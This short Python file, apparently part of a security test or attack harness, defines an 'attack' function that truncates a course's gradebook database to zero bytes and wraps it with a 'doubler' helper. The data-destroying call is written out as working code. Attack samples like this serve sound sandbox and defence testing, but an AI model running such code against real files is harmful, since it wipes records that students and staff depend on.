"""Truncates the gradebook by its path."""

import os

from lib.attack import doubler
from lib.target import COURSE


def attack():
    return os.truncate(f"{COURSE}/gradebook.db", 0)


Doubler = doubler(attack)
